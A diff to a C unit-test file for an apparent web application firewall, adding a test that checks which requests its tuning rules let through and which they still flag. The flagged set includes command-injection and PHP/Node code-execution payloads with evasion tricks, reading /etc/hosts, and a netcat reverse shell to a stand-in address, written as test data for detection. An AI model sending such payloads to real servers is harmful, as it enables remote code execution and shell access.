@@ -115,6 +115,47 @@ static void test_attacks(void **state)
 	}
 }
 
+/* What crs-tuning.conf promises: what it lets through, what it still catches. */
+static void test_tuning(void **state)
+{
+	static const char *const clean[] = {
+		/* 933210 removed for Markdown links */
+		"POST /f HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+		"\001body=see+%5Bthe+docs%5D(https%3A%2F%2Fexample.org%2Fdocs)+and+%21%5Bimg%5D(%2Fa.png)",
+		/* 932150 replaced: a sentence starting with a command */
+		"POST /f HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+		"\001body=sudo+apt-get+install+nginx+fixed+it+for+me",
+		/* common words that are commands, as values and as names */
+		"GET /list?sort=id&host=a&cat=books&id=1 HTTP/1.1\r\nHost: gw\r\n\r\n",
+		"POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\001{\"vars\":[\"id\",\"name\"]}",
+		/* a word starting with "id" after a separator */
+		"GET /q?t=pros%7Cideas HTTP/1.1\r\nHost: gw\r\n\r\n",
+	};
+	static const struct attack caught[] = {
+		{ "GET /x?f=(system)('id') HTTP/1.1\r\n\r\n", MOAT_INSP_PHP },
+		{ "GET /x?f=(%22sys%22.%22tem%22)(%24c) HTTP/1.1\r\n\r\n", MOAT_INSP_PHP },
+		{ "GET /x?f=%5Bsystem%5D%5B0%5D(%22id%22) HTTP/1.1\r\n\r\n", MOAT_INSP_PHP },
+		{ "GET /x?c=whoami HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
+		{ "GET /x?c=cat+%2Fetc%2Fhosts HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
+		{ "GET /x?c=c%27a%27t+%2Fetc%2Fhosts HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
+		{ "GET /x?c=sudo+nc+-e+sh+198.51.100.7 HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
+		{ "GET /x?c=x%7Cid HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
+		{ "GET /x?c=x%0Aid HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
+		{ "GET /x?c=require(%22fs%22).readFileSync(1) HTTP/1.1\r\n\r\n", MOAT_INSP_NODEJS },
+	};
+
+	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
+		if (eval(clean[i]) != MOAT_INSP_CLEAN)
+			fail_msg("clean[%zu] flagged, rule %u", i, last.rules[0]);
+		assert_int_equal(last.n_rules, 0);
+	}
+	for (size_t i = 0; i < sizeof(caught) / sizeof(caught[0]); i++) {
+		if (eval(caught[i].raw) != MOAT_INSP_DETECTED)
+			fail_msg("caught[%zu] not flagged", i);
+		assert_int_equal(last.category, caught[i].category);
+	}
+}
+
 static void test_path_without_query(void **state)
 {
 	eval("GET /search/x?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1\r\nHost: gw\r\n\r\n");
@@ -127,6 +168,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_benign),
 		cmocka_unit_test(test_attacks),
+		cmocka_unit_test(test_tuning),
 		cmocka_unit_test(test_path_without_query),
 	};
 
